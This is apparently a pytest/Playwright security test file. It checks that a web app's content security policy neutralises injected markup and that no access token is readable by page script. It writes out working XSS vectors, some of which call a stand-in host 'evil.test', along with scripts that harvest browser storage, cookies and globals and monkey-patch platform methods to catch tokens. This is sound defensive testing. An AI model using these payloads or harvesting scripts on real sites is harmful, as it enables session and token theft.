"""Token theft by injected script: the attack first, then where a token could be found.

Markup is injected into the pages as the server sends them, with its own headers on them, and
script as if one of the site's own files had been changed.
"""

from typing import Any, Final
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page, Response, Route, expect

from tests.support.browsing import Person, at_account, log_in, refresh_cookie
from tests.support.servers.gunicorn import GunicornServer

EVIL: Final = "http://evil.test"

# Each says its name in `fired` when it runs, or asks the evil host for it.
VECTORS: Final = {
    "inline": "<script>fired.push('inline')</script>",
    "inline-module": "<script type=module>fired.push('inline-module')</script>",
    "remote": f"<script src={EVIL}/remote></script>",
    "data-script": "<script src=\"data:,fired.push('data-script')\"></script>",
    "onerror": "<img src=x: onerror=\"fired.push('onerror')\">",
    "onload": "<svg onload=\"fired.push('onload')\"></svg>",
    "onfocus": "<input autofocus onfocus=\"fired.push('onfocus')\">",
    "ontoggle": "<details open ontoggle=\"fired.push('ontoggle')\">x</details>",
    "onanimation": "<b class=arriving onanimationend=\"fired.push('onanimation')\">x</b>",
    "srcdoc": "<iframe srcdoc=\"<script>parent.fired.push('srcdoc')</script>\"></iframe>",
    "frame-url": "<iframe src=\"javascript:parent.fired.push('frame-url')\"></iframe>",
    "javascript-link": "<a id=lure href=\"javascript:fired.push('javascript-link')\">x</a>",
    "base": f"<base href={EVIL}/><script src=base></script>",
    "frame": f"<iframe src={EVIL}/frame></iframe>",
    "object": f"<object data={EVIL}/object></object>",
    "embed": f"<embed src={EVIL}/embed>",
    "style": f"<link rel=stylesheet href={EVIL}/style>",
    "inline-style": f"<style>body {{ background: url({EVIL}/inline-style) }}</style>",
    "image": f"<img src={EVIL}/image>",
    "form": f"<form action={EVIL}/form><button id=send>x</button></form>",
}
# Written as the server's own files would be: real script, not the test driver's.
SINKS: Final = """
const sinks = {
  innerHTML: () => { document.createElement('p').innerHTML = '<b>x</b>'; },
  outerHTML: () => { document.body.firstElementChild.outerHTML = '<b>x</b>'; },
  insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
  write: () => document.write('x'),
  writeln: () => document.writeln('x'),
  fragment: () => document.createRange().createContextualFragment('<b>x</b>'),
  parser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
  unsafe: () => document.createElement('p').setHTMLUnsafe('<b>x</b>'),
  parseUnsafe: () => Document.parseHTMLUnsafe('<b>x</b>'),
  srcdoc: () => { document.createElement('iframe').srcdoc = 'x'; },
  src: () => { document.createElement('script').src = '/static/js/credentials.js'; },
  text: () => { document.createElement('script').text = 'x'; },
  textContent: () => { document.createElement('script').textContent = 'x'; },
  handler: () => document.body.setAttribute('onclick', 'x'),
  worker: () => new Worker('/static/js/credentials.js'),
  shared: () => new SharedWorker('/static/js/credentials.js'),
  timeout: () => setTimeout('window.late = true'),
  interval: () => setInterval('window.late = true'),
  eval: () => eval('1'),
  function: () => new Function('return 1'),
  policy: () => trustedTypes.createPolicy('mine', { createHTML: text => text }),
  default: () => trustedTypes.createPolicy('default', { createHTML: text => text }),
  again: () => trustedTypes.createPolicy('latchkey-fragment', { createHTML: text => text }),
};
window.open_sinks = [];
for (const [name, use] of Object.entries(sinks)) {
  try {
    use();
    window.open_sinks.push(name);
  } catch {}
}
try {
  await navigator.serviceWorker.register('/static/js/credentials.js');
  window.open_sinks.push('serviceWorker');
} catch {}
document.body.dataset.tried = 'all';
"""
# All text that script of the page can get at: storage, databases, caches, cookies, the
# document, what the platform remembers, and every object that hangs on a global or a module.
LOOT: Final = """
async () => {
  const found = [];
  const seen = new Set();
  const walk = (value, depth) => {
    if (typeof value === 'string') found.push(value);
    if (value === null || !['object', 'function'].includes(typeof value)) return;
    if (seen.has(value) || depth > 6) return;
    seen.add(value);
    if (typeof value === 'function') found.push(Function.prototype.toString.call(value));
    for (const key of Reflect.ownKeys(value)) {
      found.push(String(key));
      try { walk(value[key], depth + 1); } catch {}
    }
    try { if (value instanceof Map || value instanceof Set) walk([...value], depth + 1); } catch {}
  };
  walk({ ...localStorage }, 0);
  walk({ ...sessionStorage }, 0);
  walk((await indexedDB.databases()).map(({ name }) => name), 0);
  for (const name of await caches.keys()) {
    found.push(name);
    const cache = await caches.open(name);
    for (const answer of await cache.matchAll()) found.push(await answer.text());
  }
  for await (const name of (await navigator.storage.getDirectory()).keys()) found.push(name);
  walk([document.cookie, await cookieStore.getAll()], 0);
  walk([document.documentElement.outerHTML, document.referrer, location.href, name], 0);
  walk([history.state, performance.getEntries().map(entry => entry.toJSON())], 0);
  for (const field of document.querySelectorAll('input')) found.push(field.value);
  for (const { name } of performance.getEntriesByType('resource')) {
    if (new URL(name).pathname.startsWith('/static/js/')) walk(await import(name), 0);
  }
  walk(globalThis, 0);
  return found.join('\\n');
}
"""
# Replaces every method script can replace by one that looks at what passes.
SPY: Final = """
() => {
  window.leaks = [];
  const { apply, ownKeys, getOwnPropertyDescriptor, defineProperty } = Reflect;
  const { stringify } = JSON, { exec } = RegExp.prototype;
  const token = /eyJ[\\w-]+\\.eyJ[\\w-]+/;
  let busy = false;
  const look = (where, value) => {
    if (busy) return;
    busy = true;
    try {
      const text = typeof value === 'string' ? value
        : value instanceof Headers ? stringify([...value]) : stringify(value);
      if (text && apply(exec, token, [text])) window.leaks[window.leaks.length] = where;
    } catch {}
    busy = false;
  };
  const spy = (owner, name, where) => {
    const own = getOwnPropertyDescriptor(owner, name);
    if (!own?.configurable || typeof own.value !== 'function' || name === 'constructor') return;
    const real = own.value;
    defineProperty(owner, name, { ...own, value: function (...given) {
      look(where, this);
      for (let i = 0; i < given.length; i += 1) look(where, given[i]);
      const back = apply(real, this, given);
      look(where, back);
      return back;
    } });
  };
  for (const kind of ['Headers', 'Response', 'Request', 'Promise', 'Function', 'Object', 'Array',
    'String', 'URL', 'AbortSignal', 'LockManager', 'Map', 'Set', 'Storage', 'BroadcastChannel',
    'TextEncoder', 'SubtleCrypto', 'IDBFactory', 'IDBObjectStore']) {
    for (const name of ownKeys(window[kind].prototype)) {
      spy(window[kind].prototype, name, `${kind}.${String(name)}`);
    }
  }
  for (const name of ['fetch', 'setTimeout', 'postMessage', 'structuredClone']) {
    spy(window, name, name);
  }
  spy(JSON, 'parse', 'JSON.parse');
  spy(JSON, 'stringify', 'JSON.stringify');
  spy(Object, 'assign', 'Object.assign');
  spy(Object, 'freeze', 'Object.freeze');
  for (const name of ['access_token', 'authorization', 'Authorization', 'headers', 'then']) {
    defineProperty(Object.prototype, name, {
      configurable: true,
      get() { look(`Object.prototype.${name}`, this); return undefined; },
      set(value) {
        look(`Object.prototype.${name}`, value);
        const plain = { writable: true, enumerable: true, configurable: true };
        defineProperty(this, name, { value, ...plain });
      },
    });
  }
}
"""


# Replaces the methods of a key, and of all that it inherits from: a key can be had from a module
# that any script can import.
PATCH_KEYS: Final = """
async () => {
  window.handed = [];
  const { makePendingKey } = await import('/static/js/dpop.js');
  const key = await makePendingKey();
  for (let owner = key; owner; owner = Object.getPrototypeOf(owner)) {
    for (const name of ['prove', 'promote', 'discard']) {
      const real = key[name];
      Reflect.set(owner, name, function (...given) {
        window.handed.push(name, ...given);
        return real.apply(this, given);
      });
    }
  }
  return key.prove('GET', '/', '');
}
"""


def inject(page: Page, path: str, markup: str, *, policy: bool = True) -> None:
    """Have the server's answer for a path contain foreign markup, with its headers or without."""

    def change(route: Route) -> None:
        answer = route.fetch()
        dropped = () if policy else ("content-security-policy",)
        headers = {name: text for name, text in answer.headers.items() if name not in dropped}
        body = answer.text()
        at = body.find("</main>") if "</main>" in body else len(body)
        route.fulfill(response=answer, headers=headers, body=body[:at] + markup + body[at:])

    page.route(lambda url: urlsplit(url).path == path, change)


def evil_host(context: BrowserContext) -> list[str]:
    """Stand in for the attacker's host; gives the list of what is asked of it."""
    asked: list[str] = []

    def answer(route: Route) -> None:
        name = route.request.url.rpartition("/")[2].rstrip("?")
        asked.append(name)
        route.fulfill(content_type="text/javascript", body=f"window.fired?.push('{name}')")

    context.route(f"{EVIL}/**", answer)
    context.add_init_script("window.fired = []")
    return asked


def tokens_of(page: Page) -> list[str]:
    """Return a list that grows with the access tokens the tab receives."""
    tokens: list[str] = []

    def note(answer: Response) -> None:
        if answer.url.endswith(("/auth/login", "/auth/refresh")) and answer.ok:
            tokens.append(answer.json()["access_token"])

    page.on("response", note)
    return tokens


def use_everything(page: Page) -> None:
    """Do with a session what a person does with it."""
    page.get_by_role("button", name="Refresh now").click()
    expect(page.locator(".said")).to_contain_text("Done.")
    page.get_by_role("button", name="Ask the API").click()
    expect(page.locator(".answer")).to_contain_text("200")
    for name, heading in (("Sessions", "Your sessions"), ("Password", "Change your password")):
        page.locator(".sections").get_by_role("link", name=name).click()
        at_account(page, heading)
    page.locator(".sections").get_by_role("link", name="Overview").click()
    at_account(page)


def lure(page: Page) -> None:
    """Do what the attacker hopes for."""
    for bait in ("#lure", "#send"):
        page.locator(bait).dispatch_event("click")
    page.wait_for_timeout(200)  # for what should not happen there is nothing to wait for


@pytest.mark.parametrize("path", ["/threats", "/account", "/fragments/account"])
def test_injected_markup_is_dead(
    page: Page, context: BrowserContext, ada: Person, path: str
) -> None:
    """Markup that got into a page, a shell or a fragment runs nothing and calls nobody."""
    asked = evil_host(context)
    log_in(page, ada)
    inject(page, path, "".join(VECTORS.values()))
    page.goto("/threats" if path == "/threats" else "/account")
    page.locator("#lure").wait_for()
    lure(page)
    assert page.evaluate("fired") == []
    assert asked == []


def test_control_the_same_markup_runs_without_the_policy(
    page: Page, context: BrowserContext
) -> None:
    """Without our policy the injected markup does run: it is the policy that stops it."""
    asked = evil_host(context)
    inject(page, "/threats", "".join(VECTORS.values()), policy=False)
    page.goto("/threats")
    page.locator("#lure").dispatch_event("click")
    page.wait_for_function("fired.length > 9")
    fired = {*page.evaluate("fired"), *asked}
    page.locator("#send").dispatch_event("click")
    page.wait_for_url(f"{EVIL}/form*")
    alive = fired | {"form"}
    assert len(alive & VECTORS.keys()) >= 15, VECTORS.keys() - alive


def test_sinks_of_markup_and_code_throw(page: Page) -> None:
    """Script of the site's own files cannot turn text into markup or code by mistake."""

    def poison(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text() + SINKS)

    page.route("**/static/js/credentials.js", poison)
    page.goto("/login")
    page.locator("body[data-tried=all]").wait_for()
    assert page.evaluate("open_sinks") == []
    assert page.evaluate("window.late") is None


def test_no_token_where_script_can_read(page: Page, context: BrowserContext, ada: Person) -> None:
    """After logging in and using everything, no token is anywhere that script can look."""
    tokens = tokens_of(page)
    log_in(page, ada)
    use_everything(page)
    cookie = refresh_cookie(context)
    assert cookie
    page.evaluate("window.planted = { deep: [{ down: 'planted treasure' }] }")
    loot = page.evaluate(LOOT)
    assert "planted treasure" in loot  # the search finds what is there
    assert ada.email in loot
    assert len(tokens) == 2
    for token in (*tokens, str(cookie.get("value"))):
        for part in token.split(".")[1:]:
            assert part not in loot
    assert ada.password not in loot


def test_nothing_is_stored_but_the_key(page: Page, ada: Person) -> None:
    """No storage is used, with a token in it or without; one database holds this browser's key."""
    log_in(page, ada, remember=True)
    use_everything(page)
    stored: list[Any] = page.evaluate(
        """async () => [localStorage.length, sessionStorage.length, document.cookie,
          (await indexedDB.databases()).map(({ name }) => name).join(),
          (await caches.keys()).length,
          (await navigator.serviceWorker.getRegistrations()).length, history.state, name]"""
    )
    assert stored == [0, 0, "", "latchkey", 0, 0, None, ""]


def test_later_patching_reveals_no_token(page: Page, ada: Person) -> None:
    """Script that replaces the platform's methods after the module has loaded sees no token."""
    log_in(page, ada)
    page.evaluate(SPY)
    use_everything(page)
    assert page.evaluate("leaks") == []


def test_patching_the_modules_reveals_no_token(page: Page, ada: Person) -> None:
    """What the modules hand out cannot be made to hand the token on."""
    log_in(page, ada)
    page.evaluate(PATCH_KEYS)
    use_everything(page)
    assert page.evaluate("handed") == []


def test_control_earlier_patching_does(page: Page, context: BrowserContext, ada: Person) -> None:
    """The same patches in place before the module loads do see it: they look well."""
    context.add_init_script(f"({SPY})()")
    log_in(page, ada)
    assert page.evaluate("leaks") != []


def test_policy_is_never_violated_in_normal_use(
    page: Page, context: BrowserContext, site: GunicornServer, ada: Person
) -> None:
    """Our own pages do nothing that the policy has to stop."""
    violations: list[str] = []
    context.expose_binding("violated", lambda _source, what: violations.append(what))
    context.add_init_script(
        "addEventListener('securitypolicyviolation',"
        " event => violated(event.violatedDirective + ' ' + event.blockedURI))"
    )
    for path in ("/", "/threats", "/mistakes", "/register", "/nowhere"):
        page.goto(site.url + path)
    log_in(page, ada)
    use_everything(page)
    assert violations == []
    page.evaluate("document.body.append(Object.assign(new Image(), { src: 'http://evil.test/' }))")
    page.wait_for_timeout(100)
    assert violations == ["img-src http://evil.test/"]
